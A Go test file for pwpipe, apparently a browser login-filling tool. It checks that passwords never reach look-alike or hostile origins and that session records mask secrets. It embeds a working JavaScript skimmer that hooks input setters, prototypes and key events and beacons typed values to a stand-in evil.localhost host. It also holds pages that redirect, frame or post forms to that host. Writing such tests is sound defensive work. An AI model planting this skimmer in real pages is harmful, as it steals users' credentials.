package login_test

import (
	"fmt"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"pwpipe/internal/pipetest"
)

// thief is a page that sends on everything that is typed on it. It patches and listens to all
// that a page can.
const thief = `<script>
	const tell = (v) => v && navigator.sendBeacon('http://evil.localhost:PORT/got', String(v));
	for (const name of ['value', 'defaultValue']) {
		const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, name);
		Object.defineProperty(HTMLInputElement.prototype, name, { ...own, set(v) { tell(v); own.set.call(this, v); } });
	}
	for (const [on, name] of [[Map.prototype, 'set'], [Array.prototype, 'push'], [Array.prototype, 'includes'], [JSON, 'parse'], [Reflect, 'apply']]) {
		const own = on[name];
		on[name] = function(...all) { try { tell(JSON.stringify(all)); } catch {} return own.apply(this, all); };
	}
	Object.defineProperty(Object.prototype, 'origins', { set(v) { tell(v); }, get: () => ['http://evil.localhost:PORT'] });
	for (const type of ['input', 'change', 'keydown', 'beforeinput', 'submit']) {
		addEventListener(type, (e) => tell(e.target.value ?? e.key), true);
	}
	setInterval(() => document.querySelectorAll('input').forEach((e) => tell(e.value)), 5);
</script>`

// fails runs a log-in that must not succeed; the hostile hosts must not get a value. One that waits
// for its page to come back says why after 20 seconds, which is waited for in CI.
func (h *hosts) fails(p *pipetest.Pipe, why string) {
	h.t.Helper()
	var more []any
	if late := strings.HasPrefix(why, "is at ") || why == "there is no form"; late && !pipetest.Thorough() {
		more, why = []any{"timeout", 10}, ""
	}
	got := p.Fail("login", []any{"shop"}, more...)
	pipetest.Has(h.t, got, why)
	masked(h.t, got)
	h.quiet()
}

// quiet checks that no host but shop got a value.
func (h *hosts) quiet() {
	h.t.Helper()
	for _, host := range []string{"evil", "xn--shp-ted", "shop-evil", "www"} {
		for _, value := range []string{password, "ada@mail.example"} {
			if list := h.sent(host, value); len(list) > 0 {
				h.t.Errorf("%s heard %s", host, list)
			}
		}
	}
}

// TestLookAlikes: pages that look like the log-in's page get no value. The log-in goes to its
// own page.
func TestLookAlikes(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestLogin is quick")
	t.Parallel()
	var h *hosts
	h = serve(t, map[string]any{
		"shop/login": func(w http.ResponseWriter, r *http.Request) { h.takes(form, "/home", isAda)(w, r) },
		"shop/home":  `<h1>Welcome</h1>`,
		"evil/login": thief + form, "xn--shp-ted/login": thief + form, "shop-evil/login": thief + form, "www/login": thief + form,
	})
	p := h.start(shop)
	for _, host := range []string{"evil", "xn--shp-ted", "shop-evil", "www"} {
		p.Call("nav", []any{h.at(host) + "/login"})
		got := p.Call("login", []any{"shop"})
		pipetest.Has(t, got, `"account":"ada@mail.example"`, h.at("shop")+"/home")
		h.quiet()
	}
	// The same host at another port is another origin.
	other := serve(t, map[string]any{"shop/login": thief + form})
	h.mu.Lock()
	h.pages["shop/away"] = func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.at("shop")+"/login", http.StatusFound)
	}
	h.mu.Unlock()
	h.fails(h.start(strings.Replace(shop, `"/login"`, `"/away"`, 1)), "is at "+other.at("shop"))
	if list := other.sent("shop", password); len(list) > 0 {
		t.Errorf("another port heard %s", list)
	}
}

// TestHostilePages: a page gets no value if it leads to another origin, frames one, or sends its
// form there.
func TestHostilePages(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestNothingLeaves is quick")
	h := common()
	p := share(t, map[string]any{"shop/plain": thief + form, "evil/login": thief + form, "evil/got": "",
		"evil/frames": thief + form + `<iframe src="http://shop.localhost:PORT/plain"></iframe>`})
	for _, c := range pipetest.Some([]struct {
		name string
		page any // of shop/login
		why  string
	}{
		{"a redirect", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://evil.localhost:"+r.Host[strings.LastIndex(r.Host, ":")+1:]+"/login", http.StatusFound)
		}, "is at http://evil.localhost:"},
		{"an open redirect", `<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/login">`, "is at http://evil.localhost:"},
		{"a script that goes on", form + `<script>onload = () => location = 'http://evil.localhost:PORT/login'</script>`, "is at http://evil.localhost:"},
		{"a frame", `<h1>Log in</h1><iframe src="http://evil.localhost:PORT/login"></iframe>`, "there is no form"},
		{"a frame without origin", `<iframe sandbox="allow-scripts allow-forms" src="/plain"></iframe>`, "there is no form"},
		{"a page that frames us", `<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/frames">`, "is at http://evil.localhost:"},
		{"a form that sends on", strings.Replace(form, "/login", "http://evil.localhost:PORT/login", 1),
			"sends to http://evil.localhost:"},
		{"a button that sends on", strings.Replace(form, "<button>", "<button formaction=http://evil.localhost:PORT/login>", 1),
			"sends to http://evil.localhost:"},
		{"a field named action", strings.Replace(form, "<form method=post action=/login>", "<form method=post action=http://evil.localhost:PORT/login><input type=hidden name=action value=/login>", 1),
			"sends to http://evil.localhost:"},
		{"a form by another scheme", strings.Replace(form, "/login", "ftp://shop.localhost:PORT/login", 1), "sends to ftp://"},
		{"a form for a new password", `<form method=post><input name=email><input type=password name=a><input type=password name=b><button>Save</button></form>`,
			"there is no form"},
	}, 4) {
		p.Call("nav", []any{"about:blank"}) // nothing of the page before goes on
		h.put("shop/login", c.page)
		t.Log(c.name)
		h.fails(p, c.why)
		if list := h.sent("shop", password); len(list) > 0 {
			t.Errorf("%s: sent %s", c.name, list)
		}
	}
}

// TestTurningPages: a page and a frame change between the log-in's origin and another one all
// the time. They get a value only at the log-in's origin.
func TestTurningPages(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestNothingLeaves is quick")
	t.Parallel()
	var turns atomic.Int64
	var h *hosts
	h = serve(t, map[string]any{
		"shop/login": `<h1>Log in</h1><script>
			const f = document.createElement('iframe'); document.body.append(f); let n = 0;
			setInterval(() => f.src = (++n % 2 ? 'http://evil.localhost:PORT/login?' : '/framed?') + n, 40);
			</script>`,
		"shop/turns":  form + `<script>setTimeout(() => location = 'http://evil.localhost:PORT/turns', Math.random() * 60)</script>`,
		"evil/turns":  thief + form + `<script>setTimeout(() => location = 'http://shop.localhost:PORT/turns', Math.random() * 60)</script>`,
		"shop/framed": strings.Replace(form, "action=/login", "action=/take target=_top", 1),
		"shop/take":   func(w http.ResponseWriter, r *http.Request) { turns.Add(1); h.html(w, "<h1>Welcome</h1>") },
		"evil/login":  func(w http.ResponseWriter, r *http.Request) { turns.Add(1); h.html(w, thief+form) },
		"evil/got":    "",
	})
	p := h.start(shop)
	for range pipetest.Some([]int{1, 2, 3, 4, 5}, 2) {
		p.Try("login", []any{"shop"}, "timeout", 8) // it may succeed or not
		h.quiet()
		p.Try("nav", []any{h.at("shop") + "/turns"}) // the page may turn before it has loaded
		p.Try("login", []any{"shop"}, "timeout", 4)
		h.quiet()
	}
	if turns.Load() < 10 {
		t.Errorf("the frame turned %d times", turns.Load())
	}
	p.Close()
	masked(t, p.Stderr())
}

// TestSteps: steps are for forms that pwpipe does not recognise. They type into the fields that
// they name, and only at the log-in's origins.
func TestSteps(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestLogin is quick")
	t.Parallel()
	const odd = `<button id=open onclick="box.hidden = false; this.hidden = true">Members</button>
		<div id=box hidden><input id=a maxlength=40><input id=b type=password><input id=c type=password>
		<span id=go onclick="fetch('/take', {method: 'POST', body: new URLSearchParams({a: a.value, b: b.value})}).then(() => document.body.innerHTML = '<p class=in>Hello, Ada</p>')">&rarr;</span></div>`
	h := serve(t, map[string]any{"shop/login": odd, "shop/take": "", "evil/login": thief + odd, "evil/got": "",
		"shop/away": `<script>location = 'http://evil.localhost:PORT/login'</script>`})
	steps := `done = ".in"
account = ".in"
steps = [{click = "#open"}, {user = "#a"}, {password = "#b"}, {click = "#go"}]
`
	p := h.start(shop + steps)
	pipetest.Has(t, p.Call("login", []any{"shop"}), `"account":"Hello, Ada"`, `"gave":["user","password"]`)
	want := url.Values{"a": {"ada@mail.example"}, "b": {password}}.Encode()
	if list := h.sent("shop", want); len(list) != 1 {
		t.Errorf("sent %s", list)
	}
	h.fails(h.start(strings.Replace(shop, `"/login"`, `"/away"`, 1)+steps), "is at http://evil.localhost:")
	h.fails(h.start(shop+strings.Replace(steps, "#a", "#none", 1)), "step 2 (user #none)")
}

// TestForms: pwpipe recognises fields in shadow roots, a name first and a password on the next
// page, and a code in six fields. Scripts of frameworks get the events of typing.
func TestForms(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestLogin is quick")
	t.Parallel()
	h := serve(t, map[string]any{
		"shop/login": `<my-form></my-form><script>customElements.define('my-form', class extends HTMLElement { constructor() {
			super(); this.attachShadow({mode: 'open'}).innerHTML = '<label>User name <input autocomplete=username></label><button>Next</button>';
			let typed = ''; this.shadowRoot.querySelector('input').addEventListener('input', (e) => typed = e.target.value);
			this.shadowRoot.querySelector('button').onclick = () => location = '/second?' + encodeURIComponent(typed); } })</script>`,
		"shop/second": `<form method=post action=/take><input type=hidden name=email value=hidden><p>for you</p>
			<input type=password name=pw autocomplete=current-password><button type=button>Show</button><button disabled>Sign in</button></form>
			<script>document.querySelector('[name=pw]').oninput = () => setTimeout(() => document.querySelector('[disabled]').disabled = false, 300)</script>`,
		"shop/take": `<form method=post action=/done><p>Enter the code</p>` + strings.Repeat(`<input name=d maxlength=1 inputmode=numeric>`, 6) + `<button>Verify</button></form>`,
		"shop/done": `<h1>Welcome</h1>`,
	})
	p := h.start(shop + `totp = "{{OTHER_TOTP}}"` + "\n") // of one secret a code is given once
	pipetest.Has(t, p.Call("login", []any{"shop"}), `"gave":["user","password","code"]`, "/done")
	if len(h.sent("shop", "/second?ada%40mail.example")) == 0 || len(h.sent("shop", "pw="+url.QueryEscape(password))) == 0 {
		t.Error("not what was to be typed")
	}
	code := h.sent("shop", "d=")
	if len(code) != 1 || strings.Count(code[0], "d=") != 6 {
		t.Error(fmt.Sprint(code))
	}
}

// TestRecordsOfLogins: records of a session contain no value, even if only the log-in's commands
// know the secrets. A DevTools client, which would see the values, gets no address.
func TestRecordsOfLogins(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestLoginsAreMasked is quick")
	t.Parallel()
	var h *hosts
	h = serve(t, map[string]any{
		"shop/login": func(w http.ResponseWriter, r *http.Request) {
			h.takes(form+`<script>addEventListener('input', (e) => { console.log(e.target.value); document.cookie = 'p=' + encodeURIComponent(e.target.value) })</script>`,
				"/home#p="+url.QueryEscape(r.PostFormValue("pw")), isAda)(w, r)
		},
		"shop/home": `<h1>Welcome</h1><script>setTimeout(() => { throw Error(new URLSearchParams(location.hash.slice(1)).get('p')) })</script>`,
	})
	dir := t.TempDir()
	flags := h.flags(strings.Replace(shop, `"{{SHOP_PASSWORD}}"`, `{command = ["cat", "word"]}`, 1))
	logins, secretsAt := flags[1], flags[2:4]
	if err := os.WriteFile(filepath.Join(filepath.Dir(logins), "word"), []byte(password+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	flags = slices.DeleteFunc(flags, func(f string) bool { return slices.Contains(secretsAt, f) })
	cmd := exec.Command(pipetest.Binary(t), flags...)
	cmd.Dir = dir // browser_console_messages writes a file
	p := pipetest.StartCmd(t, cmd)
	p.Call("har-record", []any{filepath.Join(dir, "a.har")})
	p.Call("log-start", []any{filepath.Join(dir, "a.ndjson")})
	pipetest.Has(t, p.Call("login", []any{"shop"}), `"gave":["user","password"]`)
	said := []string{p.Call("requests", nil), p.Call("url", nil), p.Call("cookies", nil), p.Call("eval", []any{"performance.getEntries().map(e => e.name)"}),
		p.Call("browser_console_messages", nil), p.Call("events", nil), p.Call("logs.pull", nil), p.Call("network.pull", nil), p.Call("response", nil),
		p.Call("request", []any{1})}
	pipetest.Has(t, strings.Join(said, "\n"), "<secret:shop.password>")
	pipetest.Has(t, p.Fail("session.cdp", nil), "could read the secrets")
	p.Call("log-stop", nil)
	p.Close()
	masked(t, append(said, p.Stderr())...)
	for _, file := range []string{"a.har", "a.ndjson"} {
		text, err := os.ReadFile(filepath.Join(dir, file))
		if err != nil || len(text) < 50 {
			t.Fatalf("%s: %d bytes, %v", file, len(text), err)
		}
		masked(t, string(text))
		pipetest.Has(t, string(text), map[string]string{"a.har": "<secret:shop.password>", "a.ndjson": `"login"`}[file])
	}
}
